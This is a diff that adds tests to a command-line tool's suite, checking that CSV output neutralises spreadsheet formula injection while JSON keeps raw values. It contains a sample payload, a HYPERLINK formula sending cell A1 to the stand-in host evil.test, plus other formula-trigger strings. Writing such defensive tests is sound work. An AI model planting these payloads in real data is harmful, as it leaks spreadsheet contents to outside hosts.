@@ -197,6 +197,70 @@ describe('data on a terminal', () => {
   });
 });
 
+describe('csv cells that a spreadsheet would run as formulas', () => {
+  const formula = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
+  let id = '';
+  beforeAll(async () => {
+    // A member west of Greenwich: a negative number must stay a number.
+    const west = memberIds(box, 50).filter(
+      (member) => (box.world.store.data.users[member]?.longitude ?? 0) < 0,
+    );
+    id = west[1] ?? '';
+    const edited = await cli(
+      [
+        'users',
+        'edit',
+        id,
+        '--first-name',
+        formula,
+        '--last-name',
+        '\t+1',
+        '--occupation',
+        '\r@SUM(1)',
+        '--about',
+        '-2+3',
+        '--city',
+        'Plain',
+      ],
+      { env },
+    );
+    expect(edited.code).toBe(0);
+  });
+
+  it('are prefixed with a single quote in lists and single records; numbers stay numbers', async () => {
+    const fields = 'id,first_name,last_name,occupation,about,city,height,longitude';
+    const expected = {
+      id,
+      first_name: `'${formula}`,
+      last_name: "'\t+1",
+      occupation: "'\r@SUM(1)",
+      about: "'-2+3",
+      city: 'Plain',
+    };
+    const raw = JSON.parse((await cli(['users', 'get', id, '-o', 'json'], { env })).stdout);
+    expect(raw.longitude).toBeLessThan(0);
+    for (const args of [
+      ['users', 'search', 'HYPERLINK'],
+      ['users', 'get', id],
+    ]) {
+      const csv = await cli([...args, '-o', 'csv', '--fields', fields], { env });
+      expect(csv.code).toBe(0);
+      expect(parse(csv.stdout, { columns: true })).toEqual([
+        { ...expected, height: String(raw.height), longitude: String(raw.longitude) },
+      ]);
+    }
+  });
+
+  it('json and ndjson keep the raw values', async () => {
+    const json = JSON.parse((await cli(['users', 'get', id, '-o', 'json'], { env })).stdout);
+    expect(json.first_name).toBe(formula);
+    const ndjson = await cli(['users', 'search', 'HYPERLINK', '-o', 'ndjson', '--fields', 'first_name'], {
+      env,
+    });
+    expect(JSON.parse(ndjson.stdout)).toEqual({ first_name: formula });
+  });
+});
+
 describe('help, suggestions and usage errors (exit 2)', () => {
   it('--help lists every command and the exit codes', async () => {
     const help = await cli(['--help'], { env });
